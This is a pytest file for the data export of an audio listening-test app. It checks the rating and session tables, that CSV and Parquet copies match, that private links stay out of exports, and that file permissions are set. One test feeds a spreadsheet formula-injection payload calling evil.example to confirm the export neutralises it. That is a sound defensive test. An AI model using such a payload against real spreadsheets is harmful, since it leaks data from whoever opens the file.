"""The exported tables: what is in them, how they are typed, what cannot happen to them."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pandas as pd
import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from listener import CONSENT, Listener

from earwitness.app.export import EXPORT_FILES, TABLES, export, neutral, write_csv
from earwitness.app.invitations import create_invitations
from earwitness.stimuli.errors import DataError, StimulusError
from earwitness.stimuli.schema import RATINGS, conform
from earwitness.stimuli.study import StudyFolder


def table(folder: StudyFolder, name: str) -> pd.DataFrame:
    return pd.read_parquet(export(folder) / f"{name}.parquet")


def test_every_answer_is_a_row_with_its_item_and_system(
    any_database: str,  # noqa: ARG001
    listener: Listener,
    folder: StudyFolder,
) -> None:
    listener.run(lambda number: None if number == 0 else 1 + number % 5)
    ratings = table(folder, "ratings")
    assert list(ratings.columns) == RATINGS.names
    assert len(ratings) == 16
    test = ratings[~ratings["is_training"]]
    assert sorted(test.groupby(["item", "system", "scale"]).size()) == [1] * 12
    assert set(ratings[ratings["is_training"]]["system"]) == {"human-mix", "training-bad"}
    assert set(ratings[ratings["is_training"]]["role"]) == {"training"}
    assert ratings["declined"].sum() == 3
    assert (ratings["value"].isna() == ratings["declined"]).all()
    assert set(ratings["trial"]) == {1, 2, 3}
    assert set(test["slot"]) == {"A", "B", "C"}
    assert (ratings["presented_at"] <= ratings["answered_at"]).all()
    assert set(ratings["exclusion_rule"]) == {"pilot"}
    assert ratings["excluded"].all()


def test_simulated_and_withdrawn_sessions_are_marked(
    client: FlaskClient, folder: StudyFolder
) -> None:
    [token] = create_invitations(folder, 1)
    bot = Listener(client, client.get(f"/i/{token}").headers["Location"])
    bot.run()
    left = Listener(client)
    left.to_trials()
    left.rate_all(left.trial(), lambda _: 2)
    left.client.post(f"{left.url}/withdraw")
    Listener(client).send("consent", **CONSENT)
    ratings, sessions = table(folder, "ratings"), table(folder, "sessions")
    marks = ratings.groupby("is_simulated")["exclusion_rule"].unique()
    assert list(marks[True]) == [""]
    assert list(marks[False]) == ["withdrawn"]
    assert list(sessions["status"]) == ["completed", "withdrawn", "started"]
    assert list(sessions["is_simulated"]) == [True, False, False]
    assert list(sessions["kind"]) == ["simulated", "pilot", "pilot"]
    assert list(sessions["age"].fillna("-")) == ["30+", "30+", "-"]
    assert list(sessions["gain_db"].fillna("-")) == ["-12", "-12", "-"]
    assert list(sessions["consent_sha256"].str.len()) == [64, 64, 64]
    assert table(folder, "participants")["age"].notna().sum() == 2


def test_links_never_leave_the_server(listener: Listener, folder: StudyFolder) -> None:
    listener.run()
    target = export(folder)
    secrets = [listener.url.removeprefix("/s/"), listener.code]
    for path in target.iterdir():
        content = path.read_bytes()
        assert not [secret for secret in secrets if secret.encode() in content], path


def test_csv_and_parquet_say_the_same_and_the_package_describes_them(
    listener: Listener, folder: StudyFolder
) -> None:
    listener.run(lambda number: number % 5 or None)
    target = export(folder)
    assert sorted(path.name for path in target.iterdir()) == sorted(EXPORT_FILES)
    package = json.loads((target / "datapackage.json").read_text())
    resources = {resource["name"]: resource for resource in package["resources"]}
    for contract in TABLES:
        parquet = pd.read_parquet(target / f"{contract.name}.parquet")
        text = pd.read_csv(target / f"{contract.name}.csv", dtype=str, keep_default_na=False)
        assert len(parquet) == len(text) > 0
        fields = resources[contract.name]["schema"]["fields"]
        assert [field["name"] for field in fields] == list(parquet.columns) == list(text.columns)
        read = pd.read_csv(target / f"{contract.name}.csv").astype(object)
        typed = conform(read.where(read.notna(), None), contract)
        for column in contract.columns:
            if column.kind != "string":
                pd.testing.assert_series_equal(typed[column.name], parquet[column.name])
        assert not text.duplicated(resources[contract.name]["schema"]["primaryKey"]).any()


def test_webmushras_columns_hold_what_its_scripts_expect(
    listener: Listener, folder: StudyFolder, client: FlaskClient
) -> None:
    listener.run()  # a pilot session: left out
    [token] = create_invitations(folder, 1)
    Listener(client, client.get(f"/i/{token}").headers["Location"]).run()
    rows = pd.read_csv(export(folder) / "webmushra.csv")
    assert list(rows.columns) == [
        "session_test_id", "age", "session_uuid", "trial_id", "rating_stimulus", "rating_score",
        "rating_time", "rating_comment",
    ]  # fmt: skip
    assert len(rows) == 12
    assert set(rows["trial_id"]) == {
        "song-1.clarity", "song-1.overall", "song-2.clarity", "song-2.overall",
    }  # fmt: skip
    assert set(rows["rating_stimulus"]) == {"human-mix", "unmixed", "cnn"}
    assert (rows["rating_time"] >= 0).all()


def test_free_text_cannot_become_a_formula(listener: Listener, folder: StudyFolder) -> None:
    listener.to_trials()
    listener.finish_trials()
    attack = '=HYPERLINK("http://evil.example?"&A1,"x")'
    listener.send("comments", comment=attack)
    target = export(folder, free_text=True)
    assert f"'{attack}" in pd.read_csv(target / "sessions.csv")["comment"].to_list()
    assert attack in pd.read_parquet(target / "sessions.parquet")["comment"].to_list()


@given(st.text())
def test_no_text_cell_begins_like_a_formula_and_none_is_lost(text: str) -> None:
    safe = neutral(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe.removeprefix("'") == text.removeprefix("'")


def test_negative_numbers_stay_numbers_and_headers_are_made_safe(tmp_path: Path) -> None:
    frame = pd.DataFrame({"level_db": [-3.5, 2.0], "=name": ["-x", "y"], "n": [-1, 2]})
    frame["=name"] = frame["=name"].astype("string")
    write_csv(frame, tmp_path / "x.csv")
    assert (tmp_path / "x.csv").read_text() == "level_db,'=name,n\n-3.5,'-x,-1\n2.0,y,2\n"


def test_a_study_without_sessions_exports_empty_tables(
    listener: Listener, folder: StudyFolder
) -> None:
    assert listener.due == "consent"
    target = export(folder)
    assert len(pd.read_csv(target / "ratings.csv")) == 0
    assert len(pd.read_csv(target / "webmushra.csv")) == 0
    assert len(pd.read_csv(target / "systems.csv")) == 3
    assert list(pd.read_csv(target / "systems.csv").columns) == ["system", "role", "depth"]


def test_a_failed_export_leaves_the_one_before_whole(
    listener: Listener, folder: StudyFolder
) -> None:
    listener.run()
    before = {path.name: path.read_bytes() for path in export(folder).iterdir()}
    folder.manifest.rename(folder.root / "elsewhere.json")
    with pytest.raises(StimulusError, match="earwitness prepare"):
        export(folder)
    assert {path.name: path.read_bytes() for path in folder.exports.iterdir()} == before


def test_a_place_that_cannot_be_written_is_one_line(
    listener: Listener, folder: StudyFolder
) -> None:
    assert listener
    folder.exports.write_text("a file in the way")
    with pytest.raises(DataError, match="cannot be written"):
        export(folder)


def test_what_unblinds_is_readable_by_its_owner_only(
    listener: Listener, folder: StudyFolder
) -> None:
    assert listener
    for path in (folder.manifest, folder.secret_key, *folder.root.glob("earwitness.sqlite3*")):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
